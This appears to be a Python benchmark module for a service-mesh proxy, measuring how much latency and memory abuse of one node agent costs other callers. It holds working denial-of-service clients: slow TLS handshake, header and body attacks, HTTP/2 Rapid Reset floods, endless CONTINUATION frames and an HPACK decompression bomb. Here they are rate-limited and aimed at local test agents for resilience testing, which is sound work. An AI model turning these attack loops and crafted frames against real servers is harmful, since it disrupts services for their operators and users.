"""What do attackers cost the others behind a node agent?

200 calls a second, each due at its time, come over mutual TLS to the agent of a service (nginx, 1 KiB), in three modes by turns: `quiet`;
`elsewhere`, where attackers are at a second agent, which nobody calls; and `here`, where they are at this one. The attackers and the agent
under attack need CPU either way and share the machine with the callers, so that it is `here / elsewhere` that says what an attack does to
those who share the agent; `here / quiet` has the machine in it, too.

The attackers have an identity of their own. `slow-hello`, `slow-head`, `slow-body`: a thousand connections, each with a byte a second of the
handshake, of a head (HTTP/1.1), of a body of 100 kB. `freed_s` is how long the longest of them had a place. `resets`: requests that are
taken back at once (CVE-2023-44487), 5,000 a second. `continuation`: heads that never end (CVE-2024-24549 and its kin). `hpack`: heads of
some kilobytes that are megabytes once unpacked. `cut` is how many connections of attackers the agent ended, and they come again at once, at
most 50 times a second. `grown_mb` is what the attacked agent's memory grew by. A call that fails breaks the run.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import select
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import IO, Any, Final

from .agent import BODY, ID, origin, resident
from .harness import Run, in_process
from .peers import ROOT, SERVER_NAME, TRUST_DOMAIN, Peers, free_port, running

PRIMARY = "p99_us"
HAS_RATIOS = False
# The slow are looked at until they must have been ended, the others not so long.
SECONDS, SHORT = 14.0, 4.0
RATE: Final = 200
# Connections of the slow, and of those who are in a hurry.
SLOW, QUICK = 1000, 4
# What the attackers do in a second, all together, at most.
RESETS, HEADS, COMEBACKS = 5000, 200, 50
ATTACKS: Final = ("slow-hello", "slow-head", "slow-body", "resets", "continuation", "hpack")


def runs(peers: Peers) -> list[Run]:
    place = cache(lambda: _place(peers))

    def run(attack: str, mode: str) -> Run:
        work = in_process("benchmarks.abuse:work", attack=attack, mode=mode, place=place)
        is_slow = attack.startswith("slow") and mode != "quiet"
        return Run(f"{attack}/mtls", mode, lambda seconds: work(seconds if is_slow else min(seconds, SHORT)))

    return [run(attack, mode) for attack in ATTACKS for mode in ("here", "elsewhere", "quiet")]


def _place(peers: Peers) -> dict[str, Any]:
    """Two agents before one application, and a configuration that calls the first."""
    path, _ = peers.keep(origin(peers))
    ports, pids = [free_port(), free_port()], []
    for port in ports:
        command = (sys.executable, "-m", "benchmarks.agent_proxy", "in", str(port), peers.identities, path)
        pids.append(peers.keep(running(peers.folder, *command, port=port)).pid)
    file = peers.folder / "abuse.yaml"
    content = {
        "mesh": "shop",
        "secure": {"mode": "enforce", "trust_domain": TRUST_DOMAIN, "identity": {"folder": peers.identities}},
        "services": {
            "me": {"secure": {"allow": [{"from": ["me"]}]}},
            "orders": {"identity": f"{ID}orders", "protocol": "http2", "discover": {"static": [f"127.0.0.1:{ports[0]}"]}},
        },
    }
    file.write_text(json.dumps(content))
    return {"file": str(file), "ports": ports, "pids": pids, "identity": f"{peers.identities}/stranger"}


# ------------------------------------------------------------------ in the worker: who is called, and calls


def work(attack: str, mode: str, place: dict[str, Any], *, seconds: float) -> dict[str, float]:
    import meshlib

    from .worker import on_loop

    mesh = meshlib.Mesh.load(place["file"], service="me")
    which = int(mode != "here")
    port, pid = place["ports"][which], place["pids"][which]
    told: dict[str, float] = {}
    before = resident(pid)

    async def main() -> dict[str, float]:
        async with mesh.client() as client:

            async def call() -> None:
                answer = await client.get("http://orders/items/7")
                if len(answer.content) != BODY:
                    raise RuntimeError(f"a wrong answer: {answer.status_code}")

            await _at_rate(call, min(1.0, seconds))
            with _attackers(attack, port, place["identity"], seconds) if mode != "quiet" else contextlib.nullcontext() as beside:
                took, grown = await _at_rate(call, seconds, lambda: resident(pid) - before)
                if beside is not None:
                    told.update(json.loads(await asyncio.to_thread(beside.readline)))
        took.sort()
        found = {"p50_us": took[len(took) // 2] * 1e6, "p99_us": took[len(took) * 99 // 100] * 1e6}
        return found if mode == "quiet" else {**found, "grown_mb": max(0.0, grown), **told}

    try:
        return on_loop("uvloop", main)
    finally:
        mesh.close()


async def _at_rate(call: Callable[[], Any], seconds: float, look: Callable[[], float] = lambda: 0.0) -> tuple[list[float], float]:
    """What each call took from when it was due, and the most that `look` saw meanwhile."""
    clock = time.perf_counter  # uvloop's own counts milliseconds
    took: list[float] = []
    begun, most = clock(), 0.0

    async def due(at: float) -> None:
        await call()
        took.append(clock() - at)

    async with asyncio.TaskGroup() as group:
        for number in range(round(seconds * RATE)):
            at = begun + number / RATE
            await asyncio.sleep(max(0.0, at - clock()))
            group.create_task(due(at))
            if number % RATE == RATE - 1:
                most = max(most, look())
    return took, most


@contextlib.contextmanager
def _attackers(attack: str, port: int, identity: str, seconds: float) -> Iterator[IO[str]]:
    """What a process of attackers says, from when it has begun."""
    command = [sys.executable, "-m", "benchmarks.abuse", attack, str(port), identity, str(seconds)]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as child:
        try:
            assert child.stdout is not None
            if child.stdout.readline() != "begun\n":
                raise RuntimeError("the attackers could not begin")
            yield child.stdout
        finally:
            child.kill()


# ------------------------------------------------------------------ the attackers


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# GET / of https, with an authority, in HPACK's own words.
REQUEST: Final = b"\x82\x84\x87\x41" + bytes((len(SERVER_NAME),)) + SERVER_NAME.encode()
# A header of 4,000 bytes goes into the table, and is named 10,000 times with a byte each.
BOMB: Final = REQUEST + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 10_000
END_STREAM, END_HEADERS = 1, 4


class Attackers:
    """All of one process, against one port, until `end`. Bounded in number, in rate and in time."""

    def __init__(self, port: int, identity: str, seconds: float) -> None:
        self._port = port
        self._identity = identity
        self.end = time.monotonic() + seconds + 60  # moved when they have begun
        self._seconds = seconds
        self.cut = 0

    def begun(self) -> None:
        self.end = time.monotonic() + self._seconds
        print("begun", flush=True)

    def plain(self) -> socket.socket:
        connection = socket.create_connection(("127.0.0.1", self._port), timeout=10)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def private(self, protocol: str) -> ssl.SSLSocket:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(f"{self._identity}/bundle.pem")
        context.load_cert_chain(f"{self._identity}/svid.pem", f"{self._identity}/key.pem")
        context.set_alpn_protocols([protocol])
        return context.wrap_socket(self.plain(), server_hostname=SERVER_NAME)

    # --- slowly

    def slow(self, first: bytes, drop: bytes, *, is_private: bool) -> float:
        """A byte a second on each of many connections; the longest that one of them was kept, from its first byte to its end."""
        number = SLOW if self._seconds >= 1 else 20
        slow: dict[int, tuple[socket.socket, float]] = {}
        ears = select.epoll()
        for _ in range(number):
            connection = self.private("http/1.1") if is_private else self.plain()
            connection.setblocking(False)
            slow[connection.fileno()] = connection, 0.0
            ears.register(connection, select.EPOLLIN | select.EPOLLRDHUP)
        for handle, (connection, _) in slow.items():
            connection.send(first)
            slow[handle] = connection, time.monotonic()
        self.begun()
        longest, turns = 0.0, deque(slow)
        while slow and (now := time.monotonic()) < self.end:
            turn = turns.popleft()
            if turn in slow:
                turns.append(turn)
                with contextlib.suppress(OSError):  # full, or over: its ear will tell
                    slow[turn][0].send(drop)
            for handle, _ in ears.poll(0):
                connection, since = slow[handle]
                if _is_over(connection):
                    longest = max(longest, now - since)
                    self.cut += 1
                    ears.unregister(connection)
                    connection.close()
                    del slow[handle]
            time.sleep(max(0.0, now + 1.0 / number - time.monotonic()))
        # Those that were not ended at all were kept as long as we looked.
        return max([longest, *(self.end - since for _, since in slow.values())])

    # --- in a hurry

    def quick(self, attack: str) -> None:
        threads = [threading.Thread(target=self._again, args=(attack,)) for _ in range(QUICK)]
        self.begun()
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _again(self, attack: str) -> None:
        while (now := time.monotonic()) < self.end:
            with contextlib.suppress(OSError), self.private("h2") as connection:
                connection.settimeout(5)
                connection.sendall(PREFACE + frame(4, 1, 0))
                self._one(attack, connection)
            self.cut += 1
            time.sleep(max(0.0, now + QUICK / COMEBACKS - time.monotonic()))

    def _one(self, attack: str, connection: ssl.SSLSocket) -> None:
        """Until the other side ends the connection, which raises OSError, or the time is over."""
        stream = 1
        batch, pause = (50, 50 * QUICK / RESETS) if attack == "resets" else (1, QUICK / HEADS)
        if attack == "continuation":
            connection.sendall(frame(1, END_STREAM, 1, REQUEST))
        while time.monotonic() < self.end:
            if attack == "resets":
                numbers = range(stream, stream + 2 * batch, 2)
                connection.sendall(
                    b"".join(frame(1, END_STREAM | END_HEADERS, n, REQUEST) + frame(3, 0, n, b"\0\0\0\x08") for n in numbers)
                )
            elif attack == "continuation":
                connection.sendall(frame(9, 0, 1, b"\0\x01a\x7f\x81\x1f" + b"b" * 4096))
            else:
                connection.sendall(frame(1, END_STREAM | END_HEADERS, stream, BOMB))
            stream += 2 * batch
            if select.select([connection], [], [], 0)[0]:
                while connection.pending() or select.select([connection], [], [], 0)[0]:
                    if not connection.recv(65536):
                        raise ConnectionResetError
            time.sleep(pause)


def _is_over(connection: socket.socket) -> bool:
    """Read what is said; has the other side ended?"""
    try:
        while connection.recv(4096):
            pass
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False
    except OSError:
        pass
    return True


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.abuse")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("identity", type=Path)
    parser.add_argument("seconds", type=float)
    given = parser.parse_args()
    attackers = Attackers(given.port, str(given.identity), given.seconds)
    head = f"POST /upload HTTP/1.1\r\nHost: {SERVER_NAME}\r\n".encode()
    told: dict[str, float] = {}
    if given.attack == "slow-hello":
        # The beginning of a record that holds a ClientHello.
        told["freed_s"] = attackers.slow(b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03", b"\0", is_private=False)
    elif given.attack == "slow-head":
        told["freed_s"] = attackers.slow(head + b"x-slow: ", b"x", is_private=True)
    elif given.attack == "slow-body":
        told["freed_s"] = attackers.slow(head + b"Content-Length: 100000\r\n\r\n", b"x", is_private=True)
    else:
        attackers.quick(given.attack)
    print(json.dumps({**told, "cut": attackers.cut}), flush=True)


if __name__ == "__main__":
    main()
